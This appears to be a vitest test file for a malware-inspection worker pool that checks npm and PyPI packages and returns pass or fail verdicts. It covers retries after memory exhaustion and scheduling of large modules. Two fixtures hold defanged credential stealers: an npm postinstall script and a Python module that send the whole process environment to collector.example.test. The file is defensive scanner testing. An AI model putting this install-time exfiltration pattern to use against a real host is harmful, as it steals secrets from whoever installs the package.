import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { createInspectionPool, inProcessInspector } from '../src/inspection-pool.js';
import { DEFAULT_POLICY } from '../src/policy/schema.js';
import { RecordingLogger } from '../src/runtime/logger.js';
import { testEngine } from './support/engine.js';
import { tarArchive } from './unpack/tar-builder.js';

// The worker side lives in the bundle (dist/cli.js starts it when workerData names the role); a test
// checks elsewhere that dist/ equals a fresh build of these sources.
const SCRIPT = join(import.meta.dirname, '..', 'dist', 'cli.js');
const DAY = '2026-11-30';

const npmPackage = (name: string, code: string) => ({
  bytes: new Uint8Array(
    gzipSync(
      tarArchive([
        { name: 'package/package.json', body: JSON.stringify({ name, version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node index.js' } }) },
        { name: 'package/index.js', body: code },
      ]),
    ),
  ),
  filename: `${name}-1.0.0.tgz`,
  ecosystem: 'npm' as const,
  name,
  version: '1.0.0',
});

const sdist = (name: string, module: string) => ({
  bytes: new Uint8Array(
    gzipSync(
      tarArchive([
        { name: `${name}-1.0/PKG-INFO`, body: `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\n` },
        { name: `${name}-1.0/setup.py`, body: `from setuptools import setup\nsetup(name='${name}', version='1.0', packages=['${name}'])\n` },
        { name: `${name}-1.0/${name}/__init__.py`, body: module },
      ]),
    ),
  ),
  filename: `${name}-1.0.tar.gz`,
  ecosystem: 'pypi' as const,
  name,
  version: '1.0',
});

// Defanged: the shape of an install-time credential theft, sent to a host that cannot exist.
const STEALER = "const https = require('https');\nhttps.get('https://collector.example.test/c?d=' + encodeURIComponent(JSON.stringify(process.env)));\n";

describe('inspection pool', () => {
  it('gives the same verdict in a worker as in this thread', async () => {
    const pool = createInspectionPool({ script: SCRIPT, size: 2, heapMb: 128, youngMb: 16, retryHeapMb: 256 });
    try {
      const inputs = [npmPackage('adds', 'module.exports = (a, b) => a + b;\n'), npmPackage('steals', STEALER)];
      const pooled = await Promise.all(inputs.map((i) => pool.inspect(i, DEFAULT_POLICY, DAY)));
      const local = inProcessInspector(await testEngine());
      const here = await Promise.all(inputs.map((i) => local.inspect(i, DEFAULT_POLICY, DAY)));
      expect(pooled.map((r) => r.verdict.decision)).toEqual(['pass', 'fail']);
      expect(pooled).toEqual(here);
    } finally {
      await pool.close();
    }
  }, 60_000);

  it('retries an artifact whose worker ran out of heap once, with the larger cap', async () => {
    const log = new RecordingLogger();
    // 4 MiB cannot even hold the engine: the first worker dies, the retry with 256 MiB succeeds.
    const pool = createInspectionPool({ script: SCRIPT, size: 1, heapMb: 4, retryHeapMb: 256, log });
    try {
      const r = await pool.inspect(npmPackage('steals', STEALER), DEFAULT_POLICY, DAY);
      expect(r.verdict.decision).toBe('fail');
      expect(log.records.some((m) => /steals-1\.0\.0\.tgz: the analysis worker stopped \(out of memory\); trying once more, alone, with a 256 MiB heap/.test(m.message))).toBe(true);
    } finally {
      await pool.close();
    }
  }, 60_000);

  it('replaces a worker whose memory outside the heap grew past the limit, and goes on', async () => {
    const log = new RecordingLogger();
    // Every worker holds the parser's WebAssembly memory, so a limit of 0 MiB replaces it after each artifact.
    const pool = createInspectionPool({ script: SCRIPT, size: 1, heapMb: 128, retryHeapMb: 256, recycleExternalMb: 0, log });
    try {
      const a = await pool.inspect(npmPackage('steals', STEALER), DEFAULT_POLICY, DAY);
      const b = await pool.inspect(npmPackage('adds', 'module.exports = (a, b) => a + b;\n'), DEFAULT_POLICY, DAY);
      expect([a.verdict.decision, b.verdict.decision]).toEqual(['fail', 'pass']);
      expect(log.records.filter((r) => /MiB outside its heap; replaced/.test(r.message))).toHaveLength(2);
    } finally {
      await pool.close();
    }
  }, 60_000);

  it('reports an artifact that exhausts the larger cap too, instead of passing it', async () => {
    const pool = createInspectionPool({ script: SCRIPT, size: 1, heapMb: 4, retryHeapMb: 4 });
    try {
      await expect(pool.inspect(npmPackage('steals', STEALER), DEFAULT_POLICY, DAY)).rejects.toThrow(/the analysis stopped twice \(out of memory; heap cap 4 MiB\)/);
      // A pool whose workers keep dying still answers every request (no hang, no pass).
      await expect(pool.inspect(npmPackage('adds', 'module.exports = 1;\n'), DEFAULT_POLICY, DAY)).rejects.toThrow(/stopped twice/);
    } finally {
      await pool.close();
    }
  }, 60_000);

  it('runs artifacts with a huge Python module one at a time, with the same verdict', async () => {
    const log = new RecordingLogger();
    const pool = createInspectionPool({ script: SCRIPT, size: 2, heapMb: 128, retryHeapMb: 256, soloSourceBytes: 2000, log });
    try {
      const generated = Array.from({ length: 200 }, (_, i) => `def field_${i}(m):\n    return m.get('Field${i}')\n`).join('');
      // Defanged: import-time environment theft to a host that cannot exist, inside the large module.
      const stealing = `import os, urllib.request\nurllib.request.urlopen('https://collector.example.test/c', data=repr(dict(os.environ)).encode())\n${generated}`;
      const inputs = [sdist('small', 'VERSION = "1.0"\n'), sdist('models', generated), sdist('stealer', stealing), npmPackage('adds', 'module.exports = 1;\n')];
      const pooled = await Promise.all(inputs.map((i) => pool.inspect(i, DEFAULT_POLICY, DAY)));
      const local = inProcessInspector(await testEngine());
      const here = await Promise.all(inputs.map((i) => local.inspect(i, DEFAULT_POLICY, DAY)));
      expect(pooled.map((r) => r.verdict.decision)).toEqual(['pass', 'pass', 'fail', 'pass']);
      expect(pooled).toEqual(here);
      const solos = log.records.filter((r) => /-byte Python module; inspected when no other such artifact is/.test(r.message)).map((r) => r.message.split(':')[0]);
      expect(solos.sort()).toEqual(['models-1.0.tar.gz', 'stealer-1.0.tar.gz']);
    } finally {
      await pool.close();
    }
  }, 60_000);

  it('goes on with ordinary artifacts in the other lane while one with a huge module runs', async () => {
    const log = new RecordingLogger();
    const pool = createInspectionPool({ script: SCRIPT, size: 2, heapMb: 256, retryHeapMb: 512, soloSourceBytes: 100_000, log });
    try {
      // About 1.5 MB of generated code: its parse and analysis take far longer than a small sdist's.
      const generated = Array.from({ length: 15_000 }, (_, i) => `def field_${i}(m):\n    return m.get('Field${i}', ${i})\n`).join('');
      const order: string[] = [];
      const track = async (i: ReturnType<typeof sdist>) => {
        const r = await pool.inspect(i, DEFAULT_POLICY, DAY);
        order.push(i.name);
        return r;
      };
      const big = track(sdist('models', generated));
      // The small ones arrive once the pool knows the first artifact is a big one.
      while (!log.records.some((r) => /-byte Python module/.test(r.message))) await new Promise((r) => setTimeout(r, 10));
      const small = await Promise.all(['a', 'b', 'c', 'd'].map((n) => track(sdist(`small${n}`, 'VERSION = "1.0"\n'))));
      expect(small.map((r) => r.verdict.decision)).toEqual(['pass', 'pass', 'pass', 'pass']);
      expect((await big).verdict.decision).toBe('pass');
      // With the big artifact run alone, three of the small ones would have waited for it.
      expect(order.at(-1)).toBe('models');
    } finally {
      await pool.close();
    }
  }, 60_000);
});
